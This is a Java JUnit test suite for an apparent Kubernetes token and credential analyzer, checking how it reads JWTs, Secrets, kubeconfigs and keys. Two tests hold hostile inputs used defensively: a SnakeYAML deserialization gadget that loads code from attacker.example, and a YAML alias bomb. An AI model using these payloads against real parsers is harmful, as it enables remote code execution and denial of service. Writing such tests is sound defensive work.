package dev.tokenexplorer.core.input;

import dev.tokenexplorer.core.Analyzer;
import dev.tokenexplorer.core.SourceReport;
import dev.tokenexplorer.core.finding.Finding;
import dev.tokenexplorer.core.token.TokenKind;
import dev.tokenexplorer.core.token.TokenReport;
import dev.tokenexplorer.support.Fixtures;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.Base64;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class InputRecognizerTest {

    private static final Instant NOW = Instant.parse("2026-11-28T12:00:00Z");
    private final Analyzer analyzer = new Analyzer(Clock.fixed(NOW, ZoneOffset.UTC));

    private static final String PROJECTED = Fixtures.text(Fixtures.PROJECTED).strip();
    private static final String LEGACY = Fixtures.text(Fixtures.LEGACY_V120).strip();

    private SourceReport read(String text) {
        return analyzer.analyzeText("paste", text);
    }

    private static String b64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static List<String> noteCodes(SourceReport report) {
        return report.notes().stream().map(Finding::code).toList();
    }

    private static void assertOneDecodedToken(SourceReport report, InputType type, TokenKind kind) {
        assertThat(report.error()).isNull();
        assertThat(report.type()).isEqualTo(type);
        assertThat(report.tokens()).singleElement().satisfies(t -> {
            assertThat(t.error()).isNull();
            assertThat(t.kind()).isEqualTo(kind);
        });
    }

    @ParameterizedTest(name = "token wrapped as {0}")
    @ValueSource(strings = {"raw", "whitespace", "line-breaks", "bearer", "authorization", "base64", "base64-lines"})
    void tokenIsFoundHoweverItIsWrapped(String wrapping) {
        String text = switch (wrapping) {
            case "raw" -> PROJECTED;
            case "whitespace" -> "\n\t  " + PROJECTED + "  \n\n";
            case "line-breaks" -> PROJECTED.substring(0, 100) + "\n" + PROJECTED.substring(100, 400) + "\r\n" + PROJECTED.substring(400);
            case "bearer" -> "Bearer " + PROJECTED;
            case "authorization" -> "Authorization: Bearer " + PROJECTED + "\n";
            case "base64" -> b64(PROJECTED);
            case "base64-lines" -> Base64.getMimeEncoder().encodeToString(PROJECTED.getBytes(StandardCharsets.UTF_8));
            default -> throw new IllegalArgumentException(wrapping);
        };

        SourceReport report = read(text);

        assertOneDecodedToken(report, InputType.JWT, TokenKind.BOUND_POD);
        assertThat(report.tokens().get(0).jwt().compact()).isEqualTo(PROJECTED);
    }

    @Test
    void base64WrappedTokenSaysItWasDecoded() {
        SourceReport report = read(b64(LEGACY));

        assertThat(noteCodes(report)).contains("base64-wrapped");
        assertThat(report.tokens().get(0).location()).isEqualTo("token (base64-decoded)");
    }

    @Test
    void explicitSecretFixtureGivesOneLegacyTokenLocatedInItsData() {
        SourceReport report = read(Fixtures.text(Fixtures.EXPLICIT_SECRET));

        assertOneDecodedToken(report, InputType.SECRET, TokenKind.LEGACY);
        assertThat(report.tokens().get(0).location()).isEqualTo("Secret default/explicit-sa-token data.token");
        assertThat(report.tokens().get(0).jwt().compact()).isEqualTo(Fixtures.text(Fixtures.EXPLICIT_LEGACY).strip());
    }

    @Test
    void secretInJsonWithStringDataIsHonoured() {
        String json = """
                {"apiVersion":"v1","kind":"Secret","metadata":{"name":"manual","namespace":"ops",
                 "annotations":{"kubernetes.io/service-account.name":"default"}},
                 "type":"kubernetes.io/service-account-token",
                 "data":{"token":"%s"},
                 "stringData":{"token":"%s"}}
                """.formatted(b64("not-the-token"), LEGACY);

        SourceReport report = read(json);

        assertOneDecodedToken(report, InputType.SECRET, TokenKind.LEGACY);
        assertThat(report.tokens().get(0).location()).isEqualTo("Secret ops/manual stringData.token");
    }

    @Test
    void secretListOfThreeKeepsEachSecretApart() {
        String list = """
                apiVersion: v1
                kind: List
                items:
                - apiVersion: v1
                  kind: Secret
                  metadata: {name: robot-token, namespace: ci, annotations: {kubernetes.io/service-account.name: robot}}
                  type: kubernetes.io/service-account-token
                  data: {token: %s}
                - apiVersion: v1
                  kind: Secret
                  metadata: {name: db-password, namespace: ci}
                  type: Opaque
                  data: {password: aHVudGVyMg==}
                - apiVersion: v1
                  kind: Secret
                  metadata:
                    name: build-robot-secret
                    namespace: default
                    labels:
                      kubernetes.io/legacy-token-last-used: 2026-11-20
                      kubernetes.io/legacy-token-invalid-since: 2026-11-25
                    annotations: {kubernetes.io/service-account.name: build-robot}
                  type: kubernetes.io/service-account-token
                  data: {token: %s}
                """.formatted(b64(LEGACY), b64(Fixtures.text(Fixtures.EXPLICIT_LEGACY).strip()));

        SourceReport report = read(list);

        assertThat(report.type()).isEqualTo(InputType.SECRET_LIST);
        assertThat(report.tokens()).extracting(TokenReport::location)
                .containsExactly("Secret ci/robot-token data.token", "Secret default/build-robot-secret data.token");
        assertThat(noteCodes(report)).contains("not-a-token-secret");
        assertThat(report.tokens().get(1).findings()).extracting(Finding::code).contains("invalidated", "legacy-token-last-used");
        assertThat(report.tokens().get(1).findings()).filteredOn(f -> f.code().equals("legacy-token-last-used"))
                .first().satisfies(f -> assertThat(f.message()).contains("2026-11-20").contains("8 days ago"));
    }

    @Test
    void multiDocumentYamlReadsEveryDocument() {
        String yaml = "---\n" + Fixtures.text(Fixtures.EXPLICIT_SECRET) + "\n---\napiVersion: v1\nkind: ServiceAccount\nmetadata: {name: sa-token-demo, namespace: default}\n";

        SourceReport report = read(yaml);

        assertThat(report.type()).isEqualTo(InputType.SECRET_LIST);
        assertThat(report.tokens()).singleElement().satisfies(t -> assertThat(t.location()).isEqualTo("document 1: Secret default/explicit-sa-token data.token"));
        assertThat(noteCodes(report)).contains("service-account");
    }

    @Test
    void secretWithoutTokenYetSaysTheControllerFillsItIn() {
        SourceReport report = read(Fixtures.text("seed-explicit-secret-request.yaml"));

        assertThat(report.type()).isEqualTo(InputType.SECRET);
        assertThat(report.tokens()).isEmpty();
        // One fact, one finding: an info (the API server accepts such a Secret; the controller fills it in), no second note.
        assertThat(report.notes()).filteredOn(n -> n.code().startsWith("token-")).singleElement()
                .satisfies(n -> assertThat(n.code()).isEqualTo("token-missing"))
                .satisfies(n -> assertThat(n.severity().id()).isEqualTo("info"))
                .satisfies(n -> assertThat(n.message()).contains("a moment after the Secret is created", "sa-token-demo"));
    }

    @Test
    void annotationsWrittenAsAListAreReported() {
        SourceReport report = read("""
                apiVersion: v1
                kind: Secret
                type: kubernetes.io/service-account-token
                metadata:
                  name: mysecretname
                  annotations:
                    - kubernetes.io/service-account.name: myserviceaccount
                """);

        assertThat(noteCodes(report)).contains("annotations-not-a-map", "missing-service-account-annotation");
    }

    @Test
    void secretDataThatIsNotBase64IsNamed() {
        SourceReport report = read("apiVersion: v1\nkind: Secret\nmetadata: {name: s}\ntype: kubernetes.io/service-account-token\ndata:\n  token: 'not base64!'\n");

        assertThat(report.notes()).filteredOn(n -> n.code().equals("data-not-base64")).singleElement()
                .satisfies(n -> assertThat(n.message()).contains("Secret s data.token is not valid base64"));
    }

    @Test
    void kubeconfigTokensAndOtherCredentialsAreEachReported() {
        String kubeconfig = """
                apiVersion: v1
                kind: Config
                current-context: prod
                clusters:
                - name: prod
                  cluster: {server: https://prod.example:6443, certificate-authority-data: Q0E=}
                contexts:
                - name: prod
                  context: {cluster: prod, user: ci-bot}
                - name: dev
                  context: {cluster: prod, user: sso}
                users:
                - name: ci-bot
                  user: {token: %s}
                - name: file-user
                  user: {tokenFile: /var/run/secrets/token}
                - name: sso
                  user:
                    exec: {apiVersion: client.authentication.k8s.io/v1, command: kubelogin, args: [get-token], interactiveMode: Never}
                - name: gcp
                  user:
                    auth-provider: {name: gcp}
                - name: admin
                  user: {username: admin, password: s3cret}
                - name: bootstrap
                  user: {token: abcdef.0123456789abcdef}
                """.formatted(PROJECTED);

        SourceReport report = read(kubeconfig);

        assertThat(report.type()).isEqualTo(InputType.KUBECONFIG);
        assertThat(report.error()).isNull();
        assertThat(report.tokens()).extracting(TokenReport::location).containsExactly("kubeconfig user \"ci-bot\" token");
        assertThat(report.tokens().get(0).kind()).isEqualTo(TokenKind.BOUND_POD);
        assertThat(report.tokens().get(0).findings()).extracting(Finding::code).contains("kubeconfig-contexts");
        assertThat(report.notes()).filteredOn(n -> n.code().equals("bootstrap-token")).singleElement()
                .satisfies(n -> assertThat(n.message()).contains("token id abcdef").contains("system:bootstrap:abcdef")
                        .contains("kube-system/bootstrap-token-abcdef").doesNotContain("0123456789abcdef"));
        assertThat(noteCodes(report)).contains("token-file", "exec-plugin", "auth-provider", "basic-auth");
        assertThat(report.notes()).noneMatch(n -> n.message().contains("s3cret"));
        assertThat(report.notes()).filteredOn(n -> n.code().equals("exec-plugin")).first()
                .satisfies(n -> assertThat(n.message()).contains("kubelogin get-token").contains("never run"));
    }

    @Test
    void kubeconfigProblemsUseClientGoWording() {
        SourceReport report = read("""
                apiVersion: v1
                kind: Config
                users:
                - name: u
                  user: {token: abc, username: u, password: p}
                - name: u
                  user: {}
                contexts:
                - name: c
                  context: {cluster: missing, user: u}
                """);

        assertThat(report.error()).isEqualTo("client-go refuses to load this kubeconfig: duplicate name \"u\" in list users.");
        assertThat(report.notes()).extracting(Finding::message)
                .anySatisfy(m -> assertThat(m).contains("more than one authentication method found for u; found [token basicAuth], only one is allowed"))
                .anySatisfy(m -> assertThat(m).contains("cluster \"missing\" not found"));
    }

    @Test
    void pemPublicKeyIsDescribedWithItsKubernetesKeyId() {
        SourceReport report = read(Fixtures.text("kubernetes-test-keys/rsa_public.pem"));

        assertThat(report.type()).isEqualTo(InputType.PUBLIC_KEY);
        assertThat(report.notes()).singleElement().satisfies(n -> assertThat(n.message())
                .contains("RSA 2048-bit").contains("JHJehTTTZlsspKHT-GaJxK7Kd1NQgZJu3fyK6K_QDYU"));
    }

    @Test
    void ecPublicKeyIsDescribed() {
        SourceReport report = read(Fixtures.text("kubernetes-test-keys/ecdsa_p256_public.pem"));

        assertThat(report.notes()).singleElement().satisfies(n -> assertThat(n.message())
                .contains("EC P-256").contains("SoABiieYuNx4UdqYvZRVeuC6SihxgLrhLy9peHMHpTc"));
    }

    @Test
    void certificateFromASecretsCaCrtIsRecognisedEvenBase64Wrapped() {
        String caCrt = Fixtures.caCrtBase64();

        SourceReport report = read(caCrt);

        assertThat(report.type()).isEqualTo(InputType.CERTIFICATE);
        assertThat(report.notes()).extracting(Finding::message).anySatisfy(m -> assertThat(m).contains("CN=kubernetes"));
    }

    @Test
    void privateKeyIsRecognisedAndCalledExposed() {
        SourceReport report = read(Fixtures.text("kubernetes-test-keys/rsa_private.pem"));

        assertThat(report.type()).isEqualTo(InputType.PUBLIC_KEY);
        assertThat(noteCodes(report)).containsExactly("private-key");
    }

    @Test
    void jwksIsRecognised() {
        SourceReport report = read(Fixtures.text("rfc7515/rfc7515_A.2.jwk").replaceFirst("^\\{", "{\"keys\":[{").concat("]}"));

        assertThat(report.type()).isEqualTo(InputType.JWKS);
        assertThat(report.notes()).extracting(Finding::message).anySatisfy(m -> assertThat(m).startsWith("JWK: RSA 2048-bit public key, Kubernetes key id"));
    }

    @Test
    void openIdDiscoveryDocumentPointsToItsJwks() {
        SourceReport report = read("{\"issuer\":\"https://kubernetes.default.svc\",\"jwks_uri\":\"https://10.0.0.1:6443/openid/v1/jwks\",\"response_types_supported\":[\"id_token\"]}");

        assertThat(report.error()).contains("OpenID discovery document").contains("/openid/v1/jwks").contains("never goes online");
    }

    @ParameterizedTest(name = "garbage: {0}")
    @ValueSource(strings = {"hello world", "{not json", "just: [unclosed", "12345", "Bearer not a token"})
    void garbageGetsAMessageSayingWhatWasExpected(String text) {
        SourceReport report = read(text);

        assertThat(report.error()).isNotBlank().doesNotContain("Exception").doesNotContain("at org.");
        assertThat(report.tokens()).isEmpty();
    }

    @Test
    void emptyInputSaysWhatToPaste() {
        assertThat(read("  \n ").error()).startsWith("The input is empty").contains("Expected a JWT");
    }

    @Test
    void yamlTypeTagsNeverConstructAnything() {
        SourceReport report = read("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]");

        assertThat(report.error()).contains("type tag").contains("never honoured").contains("line 1");
    }

    @Test
    void aliasBombStopsEarly() {
        String bomb = """
                a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
                b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
                c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
                d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
                e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
                f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
                g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
                """;

        assertThat(read(bomb).error()).contains("more than 500,000 values, counting each alias as what it repeats");
    }

    @Test
    void duplicateYamlKeysAreReported() {
        assertThat(read("kind: Secret\nkind: Config\n").error()).contains("\"kind\" appears twice");
    }

    @Test
    void binaryTextIsRefused() {
        assertThat(read("\u0000\u0001PK\u0003\u0004").error()).contains("binary data");
    }

    @Test
    void tokenRequestResponseGivesItsToken() {
        SourceReport report = read("{\"kind\":\"TokenRequest\",\"apiVersion\":\"authentication.k8s.io/v1\",\"status\":{\"token\":\"" + PROJECTED + "\"}}");

        assertOneDecodedToken(report, InputType.JWT, TokenKind.BOUND_POD);
    }

    @Test
    void aSecretWhoseTokenIsNotBase64SaysSoAndNotThatTheControllerWillFillItIn() {
        SourceReport report = read("""
                apiVersion: v1
                kind: Secret
                type: kubernetes.io/service-account-token
                metadata: {name: junk, namespace: ns, annotations: {kubernetes.io/service-account.name: app}}
                data: {token: "eyJ!!"}
                """);

        assertThat(noteCodes(report)).contains("data-not-base64").doesNotContain("token-not-filled", "token-missing");
    }

    @Test
    void podsAndBindingsBesideSecretsArePartOfADumpNotUnrecognisedDocuments() {
        SourceReport withPod = read(Fixtures.text(Fixtures.EXPLICIT_SECRET) + "\n---\nkind: Pod\nmetadata: {name: p, namespace: default}\n"
                + "---\nkind: Deployment\nmetadata: {name: d, namespace: default}\n");
        SourceReport withSomethingElse = read(Fixtures.text(Fixtures.EXPLICIT_SECRET) + "\n---\nkind: Ingress\nmetadata: {name: i}\n");

        assertThat(noteCodes(withPod)).doesNotContain("document-not-recognised");
        assertThat(noteCodes(withSomethingElse)).contains("document-not-recognised");
        assertThat(read("kind: Pod\nmetadata: {name: p}\n").error()).contains("a Pod, which holds no service account token");
    }
}
